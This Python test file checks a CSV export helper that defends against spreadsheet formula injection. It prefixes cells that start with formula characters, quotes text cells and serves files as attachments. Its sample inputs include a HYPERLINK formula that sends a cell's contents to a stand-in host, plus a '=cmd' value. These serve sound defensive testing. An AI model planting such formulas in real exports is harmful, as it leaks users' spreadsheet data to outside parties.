"""The one CSV writer: OWASP's formula rule, quoted text, numbers left as numbers."""

import csv
import io

from core import csv_export


def test_cells_that_would_start_a_formula_are_prefixed_and_others_are_not():
    for dangerous in ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x.example/?"&A1,"x")']:
        assert csv_export.escape_cell(dangerous) == "'" + dangerous
    for harmless in ["fuel price", " =not first", "naïra", "'quoted", ""]:
        assert csv_export.escape_cell(harmless) == harmless
    assert csv_export.escape_cell(None) == ""
    assert csv_export.escape_cell(-5) == -5


def test_text_is_quoted_so_a_separator_inside_cannot_start_a_new_cell():
    text = csv_export.to_text([["a;=1+1", "b\t=2", 3, -4, 1.5]])
    assert text == '"a;=1+1","b\t=2",3,-4,1.5\r\n'
    assert next(csv.reader(io.StringIO(text))) == ["a;=1+1", "b\t=2", "3", "-4", "1.5"]


def test_csv_response_is_an_attachment():
    response = csv_export.csv_response([["term"], ["=cmd"]], "terms.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="terms.csv"'
    assert response.content.decode() == '"term"\r\n"\'=cmd"\r\n'
